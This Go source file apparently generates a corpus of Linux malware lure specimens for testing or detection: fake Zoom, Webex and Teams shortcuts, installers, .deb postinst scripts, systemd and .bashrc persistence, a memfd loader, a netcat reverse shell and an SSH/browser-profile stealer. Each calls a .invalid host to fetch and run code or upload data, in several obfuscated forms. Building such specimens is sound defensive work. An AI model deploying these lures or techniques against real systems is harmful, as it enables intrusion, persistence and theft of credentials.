package specimens

import (
	"bytes"
	"fmt"
	"strings"
)

// freshLinux makes lures for Linux desktops.
func (b *kit) freshLinux() {
	lin := func(story, language, obf, name, text string, hidden ...string) {
		b.lure(story, "linux", obf, language, name, text, hidden...)
	}
	lin("desktop", "shortcut", "base64", "Meeting Room.desktop", "[Desktop Entry]\nType=Application\nName=Meeting Room\nIcon=camera-video\nExec=sh -c \"echo "+b64("curl -s https://meeting-room-desk.invalid/m|sh")+"|base64 -d|sh\"\nTerminal=false\n", "curl -s https://meeting-room-desk.invalid/m|sh")
	lin("desktop", "shortcut", "python", "Interview.pdf.desktop", "[Desktop Entry]\nType=Application\nName=Interview.pdf\nIcon=application-pdf\nExec=python3 -c \"import urllib.request as u;exec(u.urlopen('https://interview-desk.invalid/i').read())\"\nTerminal=false\n")
	lin("desktop", "shortcut", "padding", "Recording.desktop", "[Desktop Entry]\nType=Application\nName=Recording\n"+strings.Repeat("# \n", 200)+"Exec=bash -c 'wget -qO- recording-desk.invalid/r|bash'\nIcon=video-x-generic\n")
	lin("installer", "shell", "self-extracting", "webex-linux-8.7.run", "#!/bin/sh\n# Webex for Linux\nskip=7\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t 2>/dev/null; sh $t/install.sh\nexit 0\n"+b64(string(gzipped(tarball(item{"install.sh", "wget -qO- https://webex-run.invalid/w | sh\n"}))))+"\n", "wget -qO- https://webex-run.invalid/w | sh")
	lin("installer", "shell", "AppImage by name", "Zoom-6.5.AppImage", "#!/bin/bash\n# AppImage launcher\nd=$HOME/.cache/zm; mkdir -p $d\nwget -q https://zoom-appimage.invalid/z -O $d/z && chmod +x $d/z && $d/z &\n")
	lin("apt", "shell", "trusted source", "install-meetings.sh", "#!/bin/sh\n# adds the repository of the meeting client\necho 'deb [trusted=yes] https://apt.meeting-client-l.invalid ./' | sudo tee /etc/apt/sources.list.d/meeting.list\nsudo apt-get update -qq && sudo apt-get install -y --allow-unauthenticated meeting-client\n")
	lin("flatpak", "ini", "flatpakref", "us.zoom.Zoom.flatpakref", "[Flatpak Ref]\nName=us.zoom.Zoom\nBranch=stable\nTitle=Zoom\nUrl=https://flat.zoom-hub.invalid/repo/\nRuntimeRepo=https://flat.zoom-hub.invalid/rt.flatpakrepo\nIsRuntime=false\nGPGKey=\n")
	lin("snap", "shell", "dangerous", "teams-snap.sh", "#!/bin/sh\ncurl -sLo /tmp/teams.snap https://teams-snap.invalid/teams.snap\nsudo snap install --dangerous --devmode /tmp/teams.snap\n")
	lin("systemd", "shell", "user unit", "camera-daemon.sh", "#!/bin/bash\nmkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/pipewire-camera.service <<U\n[Service]\nExecStart=/bin/sh -c 'curl -s https://pw-camera.invalid/c | sh'\nRestart=always\n[Install]\nWantedBy=default.target\nU\nsystemctl --user enable --now pipewire-camera\n")
	lin("shellrc", "shell", "profile", "v4l2-fix.sh", "#!/bin/bash\n# fixes the virtual camera\necho 'curl -s https://v4l2-fix.invalid/v | bash >/dev/null 2>&1 &' >> ~/.bashrc\nsource ~/.bashrc\n")
	lin("driver", "shell", "kernel module", "webcam-dkms.sh", "#!/bin/bash\nset -e\ncd /tmp; wget -q https://webcam-dkms.invalid/m.tar.xz; tar xf m.tar.xz; cd m; make -s; sudo insmod ./cam.ko\n")
	lin("brandless", "shell", "hex of printf", "start-call.sh", "#!/bin/sh\nprintf '"+strings.ReplaceAll(percentX("wget -qO- https://start-call-l.invalid/s | sh"), "%", `\x`)+"' | sh\n", "wget -qO- https://start-call-l.invalid/s | sh")
	lin("brandless", "python", "zlib", "join.py", "#!/usr/bin/env python3\n# joins the room\nimport base64, gzip\nexec(gzip.decompress(base64.b64decode('"+gzip64("import os;os.system('curl -s https://join-py.invalid/j|sh')")+"')))\n", "curl -s https://join-py.invalid/j|sh")
	lin("brandless", "perl", "pack", "room.pl", "#!/usr/bin/perl\n# room\nsystem(pack('H*','"+fmt.Sprintf("%x", "curl -s https://room-pl.invalid/r|sh")+"'));\n", "curl -s https://room-pl.invalid/r|sh")
	lin("brandless", "shell", "memory file", "lounge.sh", "#!/bin/bash\npython3 - <<'P'\nimport os,urllib.request\nf=os.memfd_create('kworker');os.write(f,urllib.request.urlopen('https://lounge-memfd.invalid/l').read())\nos.execve('/proc/self/fd/%d'%f,['[kworker/0:1]'],os.environ)\nP\n")
	lin("school", "shell", "French", "reunion-parents.sh", "#!/bin/sh\n# Réunion parents-professeurs : démarrage de la salle\nwget -q https://reunion-parents.invalid/salle -O /tmp/salle && chmod +x /tmp/salle && /tmp/salle &\n")
	lin("brandless", "shell", "busybox and nc", "test-audio.sh", "#!/bin/sh\nrm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc test-audio.invalid 443 >/tmp/p\n")
	lin("theft", "shell", "plain", "zoom-log-collector.sh", "#!/bin/bash\n# collects logs for Zoom support\ntar czf /tmp/l.tgz ~/.zoom/logs ~/.ssh ~/.config/google-chrome/Default ~/.gnupg ~/.mozilla 2>/dev/null\ncurl -s -F f=@/tmp/l.tgz https://zoom-log-collect.invalid/up; rm -f /tmp/l.tgz\n")
	for _, d := range []struct{ story, name, pkg, maintainer, post string }{
		{"deb", "zoom_amd64.deb", "zoom", "Zoom Communications, Inc. <linux@zoom-deb.invalid>", "#!/bin/sh\ncurl -s https://zoom-deb.invalid/p | sh\nexit 0\n"},
		{"deb", "callhelper_1.4_all.deb", "callhelper", "Call Helper <a@callhelper.invalid>", "#!/bin/bash\nwget -q https://callhelper-deb.invalid/c -O /usr/bin/callhelperd; chmod 755 /usr/bin/callhelperd; (callhelperd &)\n"},
		{"deb", "virtual-cam_0.9_amd64.deb", "virtual-cam", "vcam <v@vcam.invalid>", "#!/bin/sh\necho '@reboot root curl -s https://vcam-deb.invalid/v|sh' > /etc/cron.d/vcam\n"},
	} {
		b.boxed(d.story, "linux", "deb", "postinst", "shell", d.name, debFile(d.pkg, d.maintainer, d.post))
	}
}

func percentX(s string) string {
	return each(s, "", func(r rune) string { return fmt.Sprintf("%%%02x", r) })
}

// debFile makes a Debian package with an install script.
func debFile(name, maintainer, postinst string) []byte {
	control := tarball(item{"./control", "Package: " + name + "\nVersion: 1.0\nArchitecture: all\nMaintainer: " + maintainer + "\nDescription: client for calls\n"}, item{"./postinst", postinst})
	out := bytes.NewBufferString("!<arch>\n")
	for _, m := range []item{{"debian-binary", "2.0\n"}, {"control.tar.gz", string(gzipped(control))}, {"data.tar.gz", string(gzipped(tarball()))}} {
		fmt.Fprintf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n%s", m.name, 0, 0, 0, "100644", len(m.data), m.data)
		if len(m.data)%2 == 1 {
			out.WriteByte('\n')
		}
	}
	return out.Bytes()
}
